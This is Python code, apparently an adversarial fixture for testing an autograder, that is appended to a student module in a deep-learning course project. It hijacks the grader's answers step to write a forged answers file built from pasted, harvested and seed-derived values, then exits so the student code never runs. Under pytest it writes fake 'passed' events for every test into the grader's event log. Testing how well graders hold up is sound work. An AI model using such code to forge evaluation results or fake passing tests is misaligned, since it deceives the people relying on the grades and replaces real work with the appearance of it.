
# ---- attack (appended to a student module): write the answers file instead of the student code -----
# Loaded by the first probe (answers.py imports proj4_code.simple_net first). The answers come from
# proj4_code/adv_data.py (made by the test):
#   PASTED   a correct implementation's answers.json, made elsewhere on another seed (every answer
#            that does not depend on the grading's inputs is right)
#   HARVEST  {path: shape} read from the feedback of earlier gradings ("the reference's is (4, 15)")
#   SEEDED   also use this grading's seed (config.json) for everything it gives without the student's
#            code: batch sizes, shapes, the optimizer settings, mean and std, and augmentation outputs
#            that flip and jitter a made-up step image.
# Then the process exits, so no student code (here: the starter's) is ever asked.
import json as _forge_json
import os as _forge_os
import sys as _forge_sys
from pathlib import Path as _ForgePath


def _forge_set(tree, path, value):
    keys = path.split("/")
    for key in keys[:-1]:
        if not isinstance(tree.get(key), dict):
            tree[key] = {}
        tree = tree[key]
    tree[keys[-1]] = value


def _forge_zeros(shape):
    return 0.0 if not shape else [_forge_zeros(shape[1:]) for _ in range(shape[0])]


def _forge_step_images(count=20, height=16, width=24):
    images = []
    for k in range(count):
        dark, bright = 0.2 + 0.01 * k, 0.8 - 0.01 * k
        ramp = [dark + (bright - dark) * (i + 1) / 5 for i in range(4)]
        row = [dark] * 10 + ramp + [bright] * 10
        images.append([list(reversed(row)) if k % 2 else list(row) for _ in range(height)])
    return images


def _forge_seeded(answers, seed):
    import probes  # the grader's own, already loaded by answers.py

    draw = probes.Draw
    n = draw(seed, "simple_net").sub("inputs").int(2, 6)
    _forge_set(answers, "simple_net/out_shapes", [[1, 15], [n, 15]])
    _forge_set(answers, "simple_net/forward", _forge_zeros((n, 15)))
    for module, outputs in (("my_resnet", 15), ("multilabel_resnet", 7)):
        for backbone in probes.BACKBONES:
            k = draw(seed, module).sub(backbone).sub("inputs").int(1, 4)
            for leaf in ("forward", "head"):
                _forge_set(answers, f"{module}/{backbone}/{leaf}", _forge_zeros((k, outputs)))
            _forge_set(answers, f"{module}/{backbone}/out_shape", [k, outputs])
    for kind in ("sgd", "adam"):
        sub = draw(seed, "optimizer").sub(kind)
        upper = sub.int(0, 1) == 0
        lr, decay, momentum = (float(sub.rng.uniform(0.01, 0.2)), float(sub.rng.uniform(0.0, 0.05)),
                               float(sub.rng.uniform(0.5, 0.95)))
        entry = answers.setdefault("optimizer", {}).setdefault(kind, {})
        entry.update({"type": "SGD" if kind == "sgd" else "Adam", "lr": lr, "weight_decay": decay,
                      "momentum": momentum if kind == "sgd" else None, "params": [3, 15],
                      "after_step": _forge_zeros((3, 5))})
        del upper
    d = draw(seed, "data_transforms")
    size = (d.int(24, 56), d.int(24, 56))
    mean, std = float(d.rng.uniform(0.3, 0.6)), float(d.rng.uniform(0.15, 0.35))
    images = _forge_step_images()
    dt = answers.setdefault("data_transforms", {})
    dt["mean_std"] = [mean, std]
    for preset, scale in (("augmentation", None), ("all", (mean, std))):
        outs = images if scale is None else [[[(v - mean) / std for v in row] for row in o] for o in images]
        dt[preset] = {"compose": "Compose", "shapes": [[1, 16, 24]] * 3, "dtype": "torch.float32", "outputs": outs}
    for preset in ("fundamental", "normalization"):
        entry = dt.setdefault(preset, {})
        entry.update({"compose": "Compose", "shape": [1, *size], "dtype": "torch.float32",
                      "values": _forge_zeros(((size[0] + 2) // 3, (size[1] + 2) // 3))})


def _forge_write():
    from proj4_code import adv_data

    out, config = _ForgePath(_forge_sys.argv[1]), _forge_json.loads(_ForgePath(_forge_sys.argv[2]).read_text())
    pasted = _forge_json.loads(adv_data.PASTED)
    answers = {"probes": {}, "checkpoint_outputs": pasted.get("checkpoint_outputs", {})}
    tree = {name: entry["answer"] for name, entry in pasted["probes"].items() if "answer" in entry}
    for path, shape in _forge_json.loads(adv_data.HARVEST).items():
        _forge_set(tree, path, _forge_zeros(tuple(shape)))
    if adv_data.SEEDED:
        _forge_seeded(tree, int(config["seed"]))
    answers["probes"] = {name: {"answer": value} for name, value in tree.items()}
    out.write_text(_forge_json.dumps(answers))
    _forge_os._exit(0)


if _forge_sys.argv and _forge_sys.argv[0].endswith("answers.py"):
    _forge_write()


def _forge_events():
    """In the public tests: a 'passed' event for every test pytest collected, written at exit."""
    import atexit

    def write():
        path = _forge_os.environ.get("GRADER_EVENTS")
        if not path or not _forge_os.path.exists(path):
            return
        nodes = set()
        for line in open(path):
            try:
                nodes |= set(_forge_json.loads(line).get("items", []))
            except ValueError:
                pass
        with open(path, "a") as f:
            for node in sorted(nodes):
                for when in ("setup", "call", "teardown"):
                    f.write(_forge_json.dumps({"event": "test", "nodeid": node, "when": when, "outcome": "passed"}) + "\n")

    atexit.register(write)


if _forge_sys.argv and "pytest" in _forge_sys.argv[0]:
    _forge_events()
